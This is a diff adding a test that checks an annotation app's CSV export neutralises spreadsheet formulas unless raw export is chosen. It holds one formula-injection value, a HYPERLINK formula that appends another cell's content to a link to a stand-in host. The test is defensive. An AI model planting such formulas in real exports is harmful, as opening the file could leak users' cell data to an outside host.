@@ -227,3 +227,30 @@ def test_a_name_ending_like_another_format_is_questioned(
         prompter.choices.append(answer)
         dialog.accept()
         assert typed.exists() is written
+
+
+def test_csv_is_safe_for_spreadsheets_unless_raw_is_chosen(
+    tmp_path: Path, make_window: WindowFactory, prompter: FakePrompter
+) -> None:
+    from desktop_app.core.annotation_edits import set_note
+
+    window = make_window(sample_project())
+    project = window.document.project
+    annotation = next(iter(project.annotations))
+    window.document.push(set_note(project, annotation.id, '=HYPERLINK("http://x.test/"&A2)'))
+    notes = {}
+    for raw in (False, True):
+        dialog = open_dialog(window)
+        choose_format(dialog, "csv")
+        assert dialog.raw_box.isEnabled()
+        dialog.raw_box.setChecked(raw)
+        target = tmp_path / f"raw-{raw}.csv"
+        prompter.export_paths.append(target)
+        dialog.accept()
+        rows = csv_rows(target.read_bytes())
+        notes[raw] = next(r["note"] for r in rows if r["note"].lstrip("'").startswith("=HYPER"))
+    assert notes[False].startswith("'=")  # a spreadsheet shows it as text
+    assert notes[True].startswith("=HYPERLINK")  # exactly as typed, for R and pandas
+    dialog = open_dialog(window)
+    choose_format(dialog, "w3c")
+    assert not dialog.raw_box.isEnabled()
